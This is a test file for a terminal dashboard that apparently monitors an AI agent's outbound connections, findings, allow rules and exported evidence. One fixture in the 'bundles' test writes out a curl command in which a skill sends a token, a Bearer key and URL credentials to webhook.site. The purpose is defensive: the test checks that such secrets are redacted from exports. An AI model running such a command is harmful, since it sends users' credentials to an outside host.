import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test, vi } from 'vitest';
import { addRule } from '../../src/agent/policy-change.ts';
import { openLiveReader } from '../../src/store/live.ts';
import { openStore } from '../../src/store/store.ts';
import { EXIT, UserError } from '../../src/types/error.ts';
import { useDirectories } from '../store/machine.ts';
import { aBusySnapshot, aFullSnapshot, idOf, NOW, open, outbound, record, theFindings, withStore } from './machine.ts';

const directories = useDirectories();

function busy(): string {
  const path = directories.file();
  record(path, [
    [aBusySnapshot({ at: NOW - 60_000 }), theFindings()],
    [aBusySnapshot(), theFindings()],
  ]);
  return path;
}

describe('the header', () => {
  test('calls a verdict of an old look UNKNOWN, and says what it was', async () => {
    const path = directories.file();
    record(path, [[aBusySnapshot({ at: NOW - 3 * 3_600_000 }), theFindings()]]);
    const { screen, app } = await open(path, 120, 30, { isAgentAlive: () => false });
    expect(screen.text()).toMatch(/no agent: looked 3 h ago/);
    expect(screen.text()).toMatch(/UNKNOWN \(was EXPOSED 3 h ago\)/);
    app.quit();
  });

  test('says when an agent runs and yet nobody looked', async () => {
    const path = directories.file();
    record(path, [[aBusySnapshot({ at: NOW - 600_000 }), []]]);
    const { screen, app } = await open(path, 120, 30);
    expect(screen.text()).toMatch(/agent ! runs, but looked 10 min ago/);
    app.quit();
  });

  test('says that there is no record, and shows one that appears', async () => {
    const path = directories.file();
    let fileId: number | undefined;
    const { screen, app, pass } = await open(path, 100, 24, {
      openReader: async () => (fileId === undefined ? undefined : openLiveReader({ path })),
      fileId: () => fileId,
      isAgentAlive: () => false,
    });
    expect(screen.text()).toContain('nothing is on record yet');
    expect(screen.text()).not.toContain('OK');
    record(path, [[aBusySnapshot(), theFindings()]]);
    fileId = 7;
    pass(3_000);
    await expect.poll(() => screen.text(), { timeout: 5_000 }).toContain('EXPOSED');
    app.quit();
  });

  test('a record that cannot be read is said, and the screen goes on', async () => {
    const path = busy();
    const reader = openLiveReader({ path });
    let isBroken = false;
    const version = () => {
      if (!isBroken) return reader.version();
      throw new UserError('the database is damaged', { hint: 'restore it', exitCode: EXIT.internal });
    };
    const { screen, app, pass } = await open(path, 120, 30, { openReader: async () => ({ ...reader, version }) });
    isBroken = true;
    pass(1_000);
    expect(screen.text()).toContain('cannot be read: the database is damaged');
    isBroken = false;
    pass(1_000);
    expect(screen.text()).not.toContain('cannot be read');
    app.quit();
  });

  test('counts what is suppressed', async () => {
    const path = busy();
    withStore(path, (store) => store.setFindingStatus(theFindings()[0]!.fingerprint, 'suppressed', 'a test', NOW));
    const { screen, app } = await open(path, 120, 30);
    expect(screen.text()).toContain('1 critical  1 low  1 suppressed');
    app.quit();
  });
});

describe('connections', () => {
  test('a new one is marked, a closed one stays for a moment, and a frozen pane does not move', async () => {
    const path = busy();
    const { screen, app, pass } = await open(path, 120, 30);
    screen.press('3');
    const later = aBusySnapshot({
      at: NOW + 2_000,
      connections: [
        outbound(1, { name: 'api.anthropic.com' }),
        outbound(9, { skill: 'weather-pro', name: 'new.example' }),
      ],
    });
    withStore(path, (store) => store.recordCycle(later, theFindings(), 'agent'));
    pass(2_000);
    expect(screen.text()).toMatch(/\+weather-pro .*new\.example/);
    expect(screen.text()).toMatch(/×.*api\.telegram\.org/);
    screen.press('p');
    pass(60_000);
    expect(screen.text()).toContain('rows FROZEN');
    screen.press('p');
    pass(1_000);
    expect(screen.text()).not.toContain('api.telegram.org');
    expect(screen.text()).not.toMatch(/\+weather-pro/);
    app.quit();
  });

  test('bytes between two looks become a sparkline', async () => {
    const path = busy();
    const { screen, app, pass } = await open(path, 160, 30);
    screen.press('3');
    // One writer throughout: it writes growing counters once in sixteen looks.
    const store = directories.closing(openStore({ path }));
    for (let look = 1; look <= 50; look++) {
      const more = outbound(1, { name: 'api.anthropic.com', bytesOut: 1001 + look * look * 5000 });
      store.recordCycle(aBusySnapshot({ at: NOW + look * 2_000, connections: [more] }), theFindings(), 'agent');
      pass(2_000);
    }
    expect(screen.text()).toMatch(/anthropic.*[▂-▇]█ /);
    app.quit();
  });

  test('every column can be sorted by, both ways', async () => {
    const path = directories.file();
    record(path, [[aFullSnapshot(60), []]]);
    const { screen, app } = await open(path, 160, 50);
    screen.press('3');
    const columns = app.model!.columnsOf('connections');
    for (const { title } of columns) {
      screen.press('>');
      expect(screen.text()).toContain(`${title}▼`);
      const descending = screen.text();
      screen.press('r');
      expect(screen.text()).toContain(`${title}▲`);
      expect(screen.text()).not.toBe(descending);
      screen.press('r');
    }
    screen.press('>');
    expect(screen.text()).not.toContain('▼');
    app.quit();
  });

  test('others of the machine are shown when asked for', async () => {
    const path = directories.file();
    const { gatewayId: _, ...stranger } = outbound(5, { name: 'stranger.example' });
    record(path, [[aBusySnapshot({ connections: [stranger] }), []]]);
    const { screen, app } = await open(path, 120, 30);
    screen.press('3');
    expect(screen.text()).not.toContain('stranger.example');
    screen.press('o');
    expect(screen.text()).toContain('stranger.example');
    app.quit();
  });
});

test('a filter that cannot be used is said while it is typed, and the one before stays', async () => {
  const { screen, app } = await open(busy(), 120, 30);
  screen.press('3', '/');
  screen.type('webhook');
  screen.press('enter', '/', 'C-u');
  screen.type('/(a+)+b/');
  screen.press('enter');
  expect(screen.text()).toContain('a group may not be repeated');
  screen.press('escape');
  expect(screen.text()).toContain('filter webhook');
  expect(screen.text()).toContain('1 of 3');
  app.quit();
});

test('only the rows in sight are drawn, and the end of ten thousand is two keys away', async () => {
  const path = directories.file();
  record(path, [[aFullSnapshot(10_000), []]]);
  const { screen, app } = await open(path, 100, 24);
  screen.press('3', 'end');
  expect(app.frame!.body.rows).toHaveLength(17);
  expect(screen.text().split('\n')).toHaveLength(24);
  screen.press('up', 'home');
  expect(app.frame!.body.top).toBe(0);
  app.quit();
}, 60_000);

describe('allow and suppress', () => {
  test('a rule is previewed, then put in force', async () => {
    const path = busy();
    const put = vi.fn(async (rule: Parameters<typeof addRule>[1]) => withStore(path, (store) => addRule(store, rule)));
    const { screen, app } = await open(path, 120, 40, { addRule: put });
    screen.press('3', 'a');
    expect(screen.text()).toMatch(/what +webhook\.site/);
    screen.press('enter');
    await expect.poll(() => screen.text()).toContain('the reason is empty');
    screen.type('it is a test bench');
    screen.press('enter');
    await expect
      .poll(() => screen.text())
      .toMatch(/Rule: allow webhook\.site for skill weather-pro[\s\S]*silenced[\s\S]*1 contact/);
    expect(put).not.toHaveBeenCalled();
    screen.press('enter');
    await expect.poll(() => screen.text()).toContain('rule 1 is in force');
    expect(withStore(path, (store) => store.policy())).toMatchObject([
      {
        action: 'allow',
        pattern: 'webhook.site',
        scope: { kind: 'skill', name: 'weather-pro' },
        reason: 'it is a test bench',
      },
    ]);
    app.quit();
  });

  test('Esc goes back one step and changes nothing', async () => {
    const path = busy();
    const { screen, app } = await open(path, 120, 40);
    screen.press('4', 's');
    expect(screen.text()).toContain(idOf(theFindings()[1]!));
    screen.type('noise');
    screen.press('enter');
    await expect.poll(() => screen.text()).toContain('1 finding (1 critical)');
    screen.press('escape');
    expect(screen.text()).toMatch(/why +noise/);
    screen.press('escape');
    expect(screen.text()).toContain('SEVERITY');
    expect(withStore(path, (store) => store.policy())).toEqual([]);
    app.quit();
  });

  test('what the command line refuses, the form refuses with the same words', async () => {
    const { screen, app } = await open(busy(), 120, 40);
    screen.press('3', 'a', 'S-tab', 'S-tab', 'S-tab', 'C-u');
    screen.type('*.co.uk');
    screen.press('down', 'down', 'down');
    screen.type('x');
    screen.press('enter');
    await expect.poll(() => screen.text()).toContain('anybody can get a name below co.uk');
    app.quit();
  });
});

describe('bundles', () => {
  test('evidence has everything but the secrets', async () => {
    const path = directories.file();
    const folder = directories.directory();
    const [gateway] = aBusySnapshot().gateways;
    const secret = 'sk-abcdefghijklmnopqrstuvwx';
    gateway!.config.networkSubset = {
      gateway: { bind: 'loopback', auth: { token: { $secret: { given: 'literal', length: 27, hash: 'abcd' } } } },
    };
    const bad = outbound(3, { skill: 'weather-pro', name: 'webhook.site' });
    bad.owner!.process.argv = [
      'curl',
      '--token',
      'hunter2hunter2',
      '-H',
      `Authorization: Bearer ${secret}`,
      'https://ann:pass@webhook.site/x',
    ];
    record(path, [[aBusySnapshot({ gateways: [gateway!], connections: [bad] }), theFindings()]]);
    const { screen, app } = await open(path, 160, 40, { exportFolder: folder });
    screen.press('4', 'e');
    await expect.poll(() => screen.text()).toContain('written: ');
    const [name] = readdirSync(folder);
    expect(name).toMatch(/^F-/);
    expect(statSync(join(folder, name!)).mode & 0o777).toBe(0o700);
    const json = readFileSync(join(folder, name!, 'finding.json'), 'utf8');
    const page = readFileSync(join(folder, name!, 'finding.md'), 'utf8');
    const bundle = JSON.parse(json);
    expect(bundle.finding.ruleId).toBe('EGR-05');
    expect(bundle.rule.title).not.toBe('');
    expect(bundle.socketsAround.connections).toHaveLength(1);
    expect(bundle.connections[0].owner.lineage).toHaveLength(1);
    expect(page).toContain('openclaw skills remove weather-pro');
    for (const text of [json, page]) {
      for (const word of [secret, 'hunter2', 'ann:pass', '"hash"']) expect(text).not.toContain(word);
    }
    app.quit();
  });

  test('the flight recorder freezes and writes the last five minutes', async () => {
    const folder = directories.directory();
    const { screen, app } = await open(busy(), 160, 40, { exportFolder: folder });
    screen.press('3', 'f');
    await expect.poll(() => screen.text()).toContain('written: ');
    expect(screen.text()).toContain('rows FROZEN');
    const flight = JSON.parse(readFileSync(join(folder, readdirSync(folder)[0]!, 'flight.json'), 'utf8'));
    expect(flight.connections).toHaveLength(3);
    expect(flight.toAt - flight.fromAt).toBe(300_000);
    app.quit();
  });

  test('a folder that cannot be made is a sentence', async () => {
    const folder = join(directories.directory(), 'file');
    writeFileSync(folder, '');
    const { screen, app } = await open(busy(), 160, 40, { exportFolder: join(folder, 'below') });
    screen.press('4', 'e');
    await expect.poll(() => screen.text()).toContain('cannot write');
    app.quit();
  });
});

test('looking is left to an agent where one runs', async () => {
  const lookNow = vi.fn(async () => {});
  const { screen, app } = await open(busy(), 120, 30, { lookNow });
  screen.press('l');
  await expect.poll(() => screen.text()).toContain('an agent runs and looks by itself');
  expect(lookNow).not.toHaveBeenCalled();
  app.quit();
});

test('a key that nobody knows does nothing', async () => {
  const { screen, app } = await open(busy(), 120, 30);
  const before = screen.text();
  screen.press('f12', 'M-x', 'z');
  expect(screen.text()).toBe(before);
  app.quit();
});
